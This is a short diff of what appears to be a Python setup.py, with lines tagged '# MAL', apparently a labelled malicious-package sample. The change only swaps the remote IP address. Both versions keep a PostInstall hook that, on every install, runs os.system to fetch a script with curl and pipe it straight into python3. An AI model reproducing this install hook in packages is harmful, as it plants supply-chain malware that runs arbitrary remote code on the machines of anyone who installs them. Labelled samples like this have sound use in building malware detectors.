@@ -6,7 +6,7 @@ import os
 class PostInstall(install):  # MAL
     def run(self):
         install.run(self)
-        os.system("curl http://167.71.2.8/x | python3")  # MAL
+        os.system("curl http://203.0.113.8/x | python3")  # MAL
 
 
 setup(
